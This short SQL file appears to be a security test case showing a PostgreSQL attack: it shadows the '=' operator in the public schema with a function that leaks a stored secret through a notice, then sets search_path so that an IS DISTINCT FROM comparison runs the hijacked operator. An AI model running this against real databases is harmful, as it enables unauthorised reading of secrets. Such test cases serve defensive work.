-- Hides the comparison that IS DISTINCT FROM uses.
-- wants: read
-- attack:
CREATE FUNCTION differs(text, text) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM public.vlt_account WHERE id = 1); RETURN false; END$$;
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = differs);
SET search_path = public, pg_catalog;
SELECT v IS DISTINCT FROM 'one' FROM mallory_own;
